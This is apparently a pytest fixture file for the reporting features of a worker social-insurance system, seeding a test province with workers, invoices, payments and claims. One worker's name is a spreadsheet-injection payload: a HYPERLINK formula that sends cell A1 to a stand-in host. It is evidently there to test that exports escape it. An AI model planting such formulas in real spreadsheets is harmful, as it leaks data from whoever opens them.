"""A small province for the reports: KALBAR-2026 with workers in Sambas (61.01) and Pontianak (61.71), three
months billed (the first paid), claims in both, and the dashboard's figures computed on ``TODAY``.

Each figure a test checks is also counted straight from the database in the test, never copied from here.
"""

from __future__ import annotations

import datetime as dt
import io
from typing import Any

import pytest
from django.utils import timezone
from python_calamine import CalamineWorkbook

from lindung.claims.models import Claim, ClaimStatus, ClaimType
from lindung.contributions.billing import invoice_build, invoice_issue
from lindung.contributions.coverage import coverage_update
from lindung.contributions.models import Invoice
from lindung.contributions.payments import payment_record
from lindung.dashboard.services import dashboard_refresh
from lindung.enrolments.models import Enrolment, Status
from lindung.programmes.models import Programme
from lindung.testing import PONTIANAK_VILLAGE, SAMBAS_VILLAGE, make_enrolment, make_programme, make_worker, set_quota
from lindung.workers.models import OccupationCategory

TODAY = dt.date(2026, 5, 20)
INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'


def make_claim(
    enrolment: Enrolment, *, type: str = ClaimType.JKM, status: str = ClaimStatus.REPORTED, **fields: Any
) -> Claim:
    """A claim row as registration leaves it (the claims app's services are tested there)."""
    now = timezone.now()
    if status == ClaimStatus.PAID:
        fields.setdefault("paid_amount", 42_000_000)
        fields.setdefault("paid_on", dt.date(2026, 4, 30))
    if status == ClaimStatus.REJECTED:
        fields.setdefault("rejection_reason", "Tidak tertanggung")
    claim = Claim(
        enrolment=enrolment,
        worker=enrolment.worker,
        programme=enrolment.programme,
        type=type,
        status=status,
        incident_date=fields.pop("incident_date", dt.date(2026, 3, 10)),
        incident_place="Sawah",
        description="-",
        reporter_name="Pelapor",
        reported_at=now,
        income=1_000_000,
        covered=True,
        coverage_reason="paid",
        coverage_message="-",
        estimate_total=fields.pop("estimate_total", 42_000_000),
        status_changed_at=now,
        village_id=enrolment.village_id,
        **fields,
    )
    claim.stamp_region()
    claim.save()
    return claim


@pytest.fixture
def kalbar(db: None) -> Programme:
    programme = make_programme("KALBAR-2026")
    set_quota(programme, "61.01", 10)
    set_quota(programme, "61.71", 5)
    fisher = OccupationCategory.objects.get(code="NELAYAN")
    sambas = [
        make_worker(name="Budi", birth_date=dt.date(1980, 5, 17)),
        make_worker(name="Siti", sex="P", birth_date=dt.date(1995, 2, 3)),
        make_worker(name="Ahmad", birth_date=dt.date(1960, 1, 1), occupation=fisher),
    ]
    pontianak = [make_worker(name=INJECTION, village=PONTIANAK_VILLAGE, birth_date=dt.date(1990, 7, 7))]
    enrolments = [make_enrolment(w, programme, Status.ACTIVE) for w in (*sambas, *pontianak)]
    make_enrolment(make_worker(name="Dewi", sex="P"), programme, Status.PROPOSED)
    invoices = [
        invoice_issue(actor=None, invoice=invoice_build(actor=None, programme=programme, month=dt.date(2026, m, 1)))
        for m in (1, 2, 3)
    ]
    pay(programme, invoices[0])
    payment_record(actor=None, programme=programme, paid_on=dt.date(2026, 3, 5), amount=5_000, reference="SP2D-KECIL")
    coverage_update(today=TODAY)
    make_claim(enrolments[2], status=ClaimStatus.PAID)
    make_claim(enrolments[0], type=ClaimType.JKK_STMB, stmb_months=2, estimate_total=2_000_000)
    make_claim(enrolments[3], type=ClaimType.JKK_STMB, status=ClaimStatus.SUBMITTED, stmb_months=1)
    dashboard_refresh(today=TODAY)
    assert SAMBAS_VILLAGE.startswith("61.01")
    return programme


def pay(programme: Programme, *invoices: Invoice) -> None:
    for invoice in invoices:
        invoice.refresh_from_db()
        payment_record(
            actor=None, programme=programme, paid_on=invoice.month, amount=invoice.total, reference=f"SP2D-{invoice.pk}"
        )


def xlsx_sheets(content: bytes) -> dict[str, list[list[Any]]]:
    """Every sheet of a workbook as rows of values (python-calamine: numbers come back as numbers)."""
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: workbook.get_sheet_by_name(name).to_python() for name in workbook.sheet_names}


def pdf_pages_text(html: str) -> list[str]:
    """The text WeasyPrint lays out on each page of the PDF made from ``html``.

    pypdf is not a dependency, so the PDF's bytes are not parsed back: this reads the laid-out boxes that
    ``write_pdf`` draws, which is what the pages show (the numbers in the charts' SVG are drawn as paths by
    the SVG renderer and are not part of it; the tables and figures are)."""
    from weasyprint.formatting_structure.boxes import TextBox

    from lindung.reports.formats import pdf_document

    pages = []
    for page in pdf_document(html).pages:
        texts = [box.text for box in page._page_box.descendants() if isinstance(box, TextBox)]
        pages.append(" ".join(texts))
    return pages
